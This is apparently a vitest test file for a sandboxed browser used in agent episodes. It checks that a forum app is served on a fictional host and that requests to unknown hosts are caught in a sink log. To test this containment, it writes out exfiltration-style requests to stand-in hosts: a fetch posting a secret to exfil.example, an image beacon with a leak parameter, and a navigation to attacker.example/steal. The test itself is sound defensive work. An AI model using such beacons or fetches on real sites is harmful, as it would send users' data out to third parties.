/**
 * Fictional hosts and the sink in real Chromium: with the workspace's host mapping, the forum is
 * served on forum.brightpath.example (links between apps move between hosts), and navigation,
 * fetch, an image and a form post to a host nobody serves each land in the episode's sink log,
 * answered with a plain page, without an error and without reaching the network.
 */
import { describe, expect, it } from "vitest";
import type { Page } from "../../src/browser/index.js";
import { forumScenario } from "../workspace/forum-fixture.js";
import { openEpisode, refOf, scenarioOf, useBrowserAndWorkspace } from "./browser-fixture.js";

const forum = scenarioOf(forumScenario());
const { browser, workspace } = useBrowserAndWorkspace();

async function openMapped() {
  const id = `mapped-${Math.random().toString(36).slice(2, 10)}`;
  return openEpisode(browser(), workspace(), forum, { hostMapping: workspace().hostMapping(id), episodeId: id });
}

/**
 * Posts a form with one field, `note`, from the page, as a page's own script would. The navigation
 * may start before the evaluation returns and take its context along; that is the post happening.
 */
async function postForm(page: Page, action: string, note: string): Promise<void> {
  const posted = page.evaluate(
    ({ action, note }) => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = action;
      const field = document.createElement("input");
      field.name = "note";
      field.value = note;
      form.append(field);
      document.body.append(form);
      form.submit();
    },
    { action, note },
  );
  await posted.catch((error: Error) => {
    if (!/Execution context was destroyed|navigat/i.test(error.message)) throw error;
  });
}

describe("the host mapping", { timeout: 90_000 }, () => {
  it("serves the forum on its host: the home page's link leads there, a comment posts there, the app bar leads back", async () => {
    const { id, session } = await openMapped();
    try {
      const home = await session.observe();
      expect(home.url).toBe(workspace().episodeUrl(id));
      expect((await session.act({ action: "click", ref: refOf(home, "link", "Forum") })).error).toBeNull();
      const front = await session.observe();
      expect(front.url).toBe(`http://forum.brightpath.example/e/${id}/forum`);
      expect(front.axtree).toContain("How do you back up your NAS?");
      await session.act({ action: "click", ref: refOf(front, "link", "How do you back up your NAS?") });
      const post = await session.observe();
      await session.act({ action: "fill", ref: refOf(post, "textbox", "Comment"), text: "Try restic." });
      await session.act({ action: "click", ref: refOf(await session.observe(), "button", "Comment") });
      const after = await session.observe();
      expect(after.url).toBe(`http://forum.brightpath.example/e/${id}/forum/posts/0?notice=sent`);
      expect(after.lastActionError).toBeNull();
      expect(
        workspace()
          .log(id)
          .map((entry) => entry.operation),
      ).toEqual(["add_comment"]);
      await session.act({ action: "click", ref: refOf(after, "link", "Home") });
      expect((await session.observe()).url).toBe(workspace().episodeUrl(id));
      expect(workspace().sinkLog(id)).toEqual([]);
      // An https address of the forum is served too, over http (the local proxy has no certificate).
      expect((await session.act({ action: "goto", url: `https://forum.brightpath.example/e/${id}/forum/blocked` })).error).toBeNull();
      const blocked = await session.observe();
      expect(blocked.url).toBe(`http://forum.brightpath.example/e/${id}/forum/blocked`);
      expect(blocked.axtree).toContain("spam_lord");
    } finally {
      await session.close();
    }
  });

  it("sends navigation, fetch, an image and a form post to an unknown host to the sink, in order, with no error", async () => {
    const { id, session } = await openMapped();
    try {
      await session.act({ action: "goto", url: `http://forum.brightpath.example/e/${id}/forum` });
      const page = session.activePage;
      const fetched = await page.evaluate(async () => {
        const response = await fetch("https://exfil.example/collect?who=quill_harbor", {
          method: "POST",
          body: "secret=mirror",
          mode: "no-cors",
        });
        return response.type;
      });
      expect(fetched).toBe("opaque");
      await page.evaluate(
        () =>
          new Promise<void>((resolve) => {
            const image = document.createElement("img");
            image.onload = image.onerror = () => resolve();
            image.src = "http://pixel.example/p.gif?leak=backup-plan";
            document.body.append(image);
          }),
      );
      await postForm(page, "http://forms.example/submit", "Your tip saved my data.");
      await page.waitForURL("http://forms.example/submit");
      const goto = await session.act({ action: "goto", url: "http://attacker.example/steal?d=1&d=2" });
      expect(goto.error).toBeNull();
      const observation = await session.observe();
      expect(observation.url).toBe("http://attacker.example/steal?d=1&d=2");
      expect(observation.axtree).toContain("Your request was received.");
      const admin = await session.act({ action: "goto", url: `${workspace().adminUrl}/episodes/${id}/state` });
      expect(admin.error).toBeNull();
      expect((await session.observe()).axtree).not.toContain("quill_harbor");

      // Chromium asks a page's host for /favicon.ico on its own, at a moment of its choosing (after
      // the next navigation, on a loaded machine): not a request of the page, so not compared here.
      const sink = workspace()
        .sinkLog(id)
        .filter((entry) => entry.path !== "/favicon.ico");
      expect(sink.map((entry) => [entry.method, entry.host, entry.path, entry.resource_type])).toEqual([
        ["POST", "exfil.example", "/collect", "fetch"],
        ["GET", "pixel.example", "/p.gif", "image"],
        ["POST", "forms.example", "/submit", "document"],
        ["GET", "attacker.example", "/steal", "document"],
        ["GET", "127.0.0.1", `/episodes/${id}/state`, "document"],
      ]);
      // In order: numbered as they arrived, from 1 (a favicon request may take a number in between).
      const seqs = sink.map((entry) => entry.seq);
      expect(seqs[0]).toBe(1);
      expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
      expect(new Set(seqs).size).toBe(seqs.length);
      expect(sink[0]).toMatchObject({
        episode: id,
        query: [["who", "quill_harbor"]],
        body: "secret=mirror",
        after_change: 0,
        time: "2026-03-02T10:30:00Z",
      });
      expect(sink[1]?.query).toEqual([["leak", "backup-plan"]]);
      expect(sink[2]?.body).toBe("note=Your+tip+saved+my+data.");
      expect(sink[3]).toMatchObject({
        url: "http://attacker.example/steal?d=1&d=2",
        query: [
          ["d", "1"],
          ["d", "2"],
        ],
        body: null,
      });
      expect(session.blockedRequests).toEqual([]);
    } finally {
      await session.close();
    }
  });

  it("follows a redirect from a mapped host to an unknown host into the sink, body and all, never to the network", async () => {
    const { id, session } = await openMapped();
    try {
      await session.act({ action: "goto", url: `http://forum.brightpath.example/e/${id}/forum` });
      const page = session.activePage;
      // A page of a served host that answers with a redirect off the mapping (the workspace's own
      // pages never do; a page of the field's other environments may). A 307 keeps the form body.
      await page.route("**/forum/hop", (route) =>
        route.fulfill({ status: 307, headers: { location: "http://relay.example/catch?via=forum" } }),
      );
      await postForm(page, `/e/${id}/forum/hop`, "backup-plan");
      await page.waitForURL("http://relay.example/catch?via=forum");
      expect(await page.textContent("body")).toContain("Your request was received.");
      const sink = workspace().sinkLog(id);
      expect(sink.map((entry) => [entry.method, entry.host, entry.path, entry.body])).toEqual([
        ["POST", "relay.example", "/catch", "note=backup-plan"],
      ]);
      expect(sink[0]?.query).toEqual([["via", "forum"]]);
      // Recorded by the context's own proxy: the route handler never sees a redirect's next hop.
      expect(sink[0]?.resource_type).toBe("redirect");
      expect(session.blockedRequests).toEqual([]);
    } finally {
      await session.close();
    }
  });

  it("without the mapping, the same requests are refused as before and nothing reaches the sink", async () => {
    const { id, session } = await openEpisode(browser(), workspace(), forum);
    try {
      const refused = await session.act({ action: "goto", url: "http://attacker.example/steal" });
      expect(refused.error).toMatch(/outside the workspace/);
      const fetched = await session.activePage.evaluate(() =>
        fetch("http://exfil.example/x").then(
          () => "answered",
          () => "failed",
        ),
      );
      expect(fetched).toBe("failed");
      expect(session.blockedRequests).toEqual(["http://exfil.example/x"]);
      expect(workspace().sinkLog(id)).toEqual([]);
      // The forum is served on the workspace's own origin, as every app is without a mapping.
      await session.act({ action: "goto", url: `/e/${id}/forum` });
      expect((await session.observe()).url).toBe(`${workspace().url}/e/${id}/forum`);
    } finally {
      await session.close();
    }
  });
});
